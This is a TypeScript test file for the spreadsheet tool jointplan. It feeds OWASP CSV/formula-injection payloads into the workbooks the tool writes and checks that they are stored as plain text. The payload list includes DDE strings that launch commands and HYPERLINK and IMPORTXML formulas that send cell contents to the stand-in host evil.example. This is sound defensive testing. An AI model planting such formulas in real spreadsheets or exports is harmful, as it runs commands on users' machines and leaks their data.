/**
 * User text never becomes a formula in the files jointplan writes: the OWASP CSV-injection
 * payloads (https://owasp.org/www-community/attacks/CSV_Injection) go through `jointplan new`
 * (--distributor, --principal, --market) and through every text cell of the sample, and the
 * package XML is read back: every <f> in it is one of the plan's own formulas, each payload is
 * stored as text (a shared string, a cell of type "s"), and it reads back as the text typed.
 */
import { readFileSync } from "fs";
import { mkdtempSync, rmSync } from "fs";
import { tmpdir } from "os";
import * as path from "path";
import { newWorkbookInput } from "../../src/cli/newCommand";
import { serialFromIso } from "../../src/plan/model";
import { newWorkbookSpecs, type NewWorkbookInput } from "../../src/plan/workbook";
import { fileFormula } from "../../src/xlsx/fileFormula";
import { readXlsx } from "../../src/xlsx/readXlsx";
import { writeXlsx } from "../../src/xlsx/writeXlsx";
import { cli } from "../cli/runCli";
import { packageParts } from "./rawPackage";

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "\t=1+1",
  "\r\n=1+1",
  " =1+1",
  "'=1+1",
  "=1+1<b>&amp;",
];

const decode = (x: string): string => x.replace(/&(lt|gt|quot|apos|amp);/g, (_m, e: string) => ({ lt: "<", gt: ">", quot: '"', apos: "'", amp: "&" })[e] as string);

/** Every <f> of every sheet, decoded. */
function formulasIn(parts: Record<string, string>): string[] {
  return Object.entries(parts)
    .filter(([n]) => n.startsWith("xl/worksheets/sheet"))
    .flatMap(([, x]) => [...x.matchAll(/<f>([\s\S]*?)<\/f>/g)].map((m) => decode(m[1])));
}

/** The formulas the plan's own specs define, in the file's form. */
function specFormulas(input: NewWorkbookInput): Set<string> {
  const out = new Set<string>();
  for (const spec of newWorkbookSpecs(input)) for (const b of spec.blocks) for (const row of b.formulas ?? []) for (const f of row) out.add(fileFormula(f));
  return out;
}

/** Every payload is a shared string, and some cell of type "s" refers to it. */
function expectStoredAsText(parts: Record<string, string>, texts: string[]): void {
  const items = [...parts["xl/sharedStrings.xml"].matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => [...m[1].matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => decode(t[1])).join(""));
  const cells = Object.entries(parts)
    .filter(([n]) => n.startsWith("xl/worksheets/sheet"))
    .flatMap(([, x]) => [...x.matchAll(/<c r="[A-Z]+\d+"[^>]*t="s"[^>]*><v>(\d+)<\/v><\/c>/g)].map((m) => Number(m[1])));
  const referenced = new Set(cells.map((i) => items[i]));
  for (const t of texts) expect({ text: t, stored: referenced.has(t.replace(/\r\n/g, "\n").replace(/\r/g, "\n")) || referenced.has(t) }).toEqual({ text: t, stored: true });
}

describe("OWASP formula-injection payloads in the files jointplan writes", () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(path.join(tmpdir(), "jointplan-injection-"));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))("new --distributor/--principal/--market %s", async (_shown, payload) => {
    const file = path.join(dir, `p${PAYLOADS.indexOf(payload)}.xlsx`);
    const run = await cli("new", file, "--distributor", payload, "--principal", payload, "--market", payload, "--as-of", "2026-03-18");
    expect(run.err).toBe("");
    const bytes = readFileSync(file);
    const parts = await packageParts(bytes);
    // The command line trims the names it is given (a name is not its surrounding spaces).
    const name = payload.trim();
    const day = serialFromIso("2026-03-18")!;
    const input = newWorkbookInput({ sample: false, force: false, distributor: name, principal: name, market: name, asOf: day }, day);
    const own = specFormulas(input);
    for (const f of formulasIn(parts)) expect(own.has(f)).toBe(true);
    expectStoredAsText(parts, [name]);
    const grids = await readXlsx(bytes);
    const cells = grids.flatMap((g) => g.values.flat());
    expect(cells.filter((v) => v === name).length).toBeGreaterThanOrEqual(3);
  });

  it("keeps every text cell of the sample as text when each holds a payload", async () => {
    const day = serialFromIso("2026-03-18")!;
    const sample = newWorkbookInput({ sample: true, force: false, asOf: day }, day);
    let n = 0;
    const next = (): string => PAYLOADS[n++ % PAYLOADS.length];
    const textKeys = ["action", "kpi", "unit", "resources", "nextStep", "overrideReason", "objective", "initiative"];
    const poison = (row: Record<string, unknown>) => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, textKeys.includes(k) && typeof v === "string" ? next() : v]));
    const input: NewWorkbookInput = {
      ...sample,
      roster: sample.roster.map((r) => ({ ...r, role: next(), email: next() })),
      jbp: { header: { ...sample.jbp.header, principal: next(), market: next() }, objectives: sample.jbp.objectives.map(poison) as NewWorkbookInput["jbp"]["objectives"] },
      jap: { header: { ...sample.jap.header, distributor: next() }, actions: sample.jap.actions.map(poison) as NewWorkbookInput["jap"]["actions"] },
    };
    expect(n).toBeGreaterThan(60);
    const { bytes } = await writeXlsx(newWorkbookSpecs(input));
    const parts = await packageParts(bytes);
    const own = specFormulas(input);
    for (const f of formulasIn(parts)) expect(own.has(f)).toBe(true);
    expectStoredAsText(parts, PAYLOADS);
    const cells = new Set((await readXlsx(bytes)).flatMap((g) => g.values.flat()));
    for (const p of PAYLOADS) expect({ p, read: cells.has(p) || cells.has(p.replace(/\r\n/g, "\n")) }).toEqual({ p, read: true });
  });
});
